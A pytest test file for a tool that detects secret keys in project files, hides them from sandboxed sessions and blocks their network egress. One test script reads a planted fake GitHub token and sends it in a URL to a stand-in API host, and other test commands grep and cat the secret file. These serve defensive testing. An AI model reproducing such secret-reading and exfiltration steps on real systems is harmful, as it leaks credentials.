"""Files that hold keys by their content: found in the background, hidden, and kept from leaving until then."""

import json
import os
import secrets
import socket
import string
import time

import pytest

pytestmark = pytest.mark.timeout(100)


def key(prefix="ghp_", length=36):
    letters = string.ascii_letters + string.digits
    return prefix + "".join(secrets.choice(letters) for _ in range(length))


@pytest.fixture
def held(field):
    """A project in which a file of an innocent name holds a key."""
    value = key()
    field.put("src/settings.py", f'DEBUG = True\nGITHUB = "{value}"\n')
    field.put("src/main.py", "print('hello')\n")
    return value


@pytest.mark.guarantee("F11")
class TestFound:
    def test_by_scan_with_place_and_rule_and_never_the_value(self, field, held):
        done = field.run("scan")
        assert (done.code, done.out) == (1, "src/settings.py:2: GitHub Token\n"), done
        listed = field.run("scan", "--json")
        assert json.loads(listed.out) == [{"path": "src/settings.py", "line": 2, "rule": "GitHub Token"}]
        assert held not in done.out + done.err + listed.out + listed.err
        for folder, _, files in os.walk(field.folder):
            for name in files:
                with open(os.path.join(folder, name), "rb") as file:
                    assert held.encode() not in file.read() or name == "settings.py"

    @pytest.mark.parametrize("mode", ["direct", "overlay", "readonly"])
    def test_and_hidden_from_the_next_session(self, field, held, mode):
        field.run("scan")
        done = field.sh("cat src/settings.py; grep -r ghp_ .; cat src/main.py", "--mode", mode)
        assert held not in done.out + done.err, done
        assert "hello" in done.out
        plan = field.run("plan", "--mode", mode)
        assert "src/settings.py (holds a key (GitHub Token))" in plan.out, plan

    def test_while_a_session_runs_which_says_so_at_its_end(self, field, held):
        done = field.sh("sleep 3")
        told = (
            "ringfence: src/settings.py holds a key (GitHub Token); it is hidden from the next session on\n"
        )
        assert done.err == told, done
        assert field.left_over() == []
        assert held not in field.sh("cat src/settings.py").out

    def test_again_when_the_file_changes(self, field, held):
        field.run("scan")
        os.utime(f"{field.project}/src/settings.py")
        assert "(held a key (GitHub Token) before it changed)" in field.run("plan").out
        assert held not in field.sh("cat src/settings.py").out
        other = key()
        field.put("src/settings.py", f'GITHUB = "{other}"\n# more\n')
        assert field.run("scan").out == "src/settings.py:1: GitHub Token\n"
        field.put("src/settings.py", "GITHUB = environ\n")
        done = field.run("scan")
        assert (done.code, done.out) == (0, "")
        assert field.sh("cat src/settings.py").out == "GITHUB = environ\n"


class TestThePolicy:
    def test_gives_up_a_file_by_name(self, field, held):
        field.policy('[workspace]\nunmask = ["src/settings.py"]\n')
        assert field.run("scan").out == ""
        assert held in field.sh("sleep 2; cat src/settings.py").out

    def test_switches_looking_off(self, field, held):
        field.run("scan")
        field.policy('[workspace]\ncontent = "off"\n')
        done = field.sh("sleep 1; cat src/settings.py")
        assert held in done.out
        assert done.err == ""

    def test_watches_instead_of_hiding(self, field, held):
        field.run("scan")
        field.policy('[workspace]\ncontent = "watch"\n')
        assert held in field.sh("cat src/settings.py").out

    def test_of_a_project_cannot_switch_it_off(self, field, held):
        field.run("scan")
        field.put("ringfence.toml", '[workspace]\ncontent = "off"\n')
        done = field.sh("cat src/settings.py")
        assert held not in done.out
        assert "workspace.content off" in done.err


@pytest.mark.guarantee("K6")
def test_a_key_found_while_the_session_runs_cannot_leave_from_then_on(field, held):
    server = socket.create_server(("127.0.0.1", 0))
    port = server.getsockname()[1]
    field.policy(
        f'[workspace]\ncontent = "watch"\n[[egress.allow]]\nhost = "api.example.com"\nschemes = ["http"]\nports = [{port}]\n'
        f'[egress.static]\n"api.example.com" = "127.0.0.1:{port}"\n'
    )
    script = (
        "import time, urllib.request, urllib.error\n"
        "key = open('src/settings.py').read().split('\"')[1]\n"
        "time.sleep(1.5)\n"
        "for _ in range(2):\n"
        "    try:\n"
        f"        urllib.request.urlopen('http://api.example.com:{port}/' + key, timeout=3)\n"
        "    except urllib.error.HTTPError as error: print(error.code, error.read().decode())\n"
    )
    try:
        done = field.python(script)
        server.settimeout(0.2)
        with pytest.raises(TimeoutError):
            server.accept()
    finally:
        server.close()
    assert "it carries a value of the hidden file" in done.out, done
    assert held not in done.out


def test_the_process_that_looks_has_no_network_and_reads_nothing_else(field, held):  # noqa: ARG001
    """Asked of one that is made to look where it may not."""
    outside = field.put(f"{field.folder}/outside", "x")
    code = (
        "import sys, socket; from ringfence.boundary import detector;"
        f"import os; os.makedirs('{field.folder}/cache/keys', exist_ok=True);"
        f"detector.confine('{field.project}', '{field.folder}/cache/keys')\n"
        f"print(len(open('{field.project}/src/main.py').read()))\n"
        "for what in (lambda: open(%r).read(), lambda: open('%s/new', 'w'), lambda: socket.create_connection(('127.0.0.1', 9), 1)):\n"
        "    try: what(); print('WORKED')\n"
        "    except OSError as error: print(type(error).__name__)\n" % (outside, field.project)
    )
    out = field.bare(field.person.python, "-c", code)
    lines = out.split()
    assert lines[0] == "15"
    assert "WORKED" not in lines
    assert lines[1:3] == ["PermissionError", "PermissionError"], lines


def test_a_link_is_not_followed_and_a_fifo_not_opened(field, held):  # noqa: ARG001
    outside = field.put(f"{field.folder}/outside.py", f'KEY = "{key()}"\n')
    os.symlink(outside, f"{field.project}/link.py")
    os.mkfifo(f"{field.project}/fifo.py")
    began = time.monotonic()
    assert field.run("scan").out == "src/settings.py:2: GitHub Token\n"
    assert time.monotonic() - began < 20
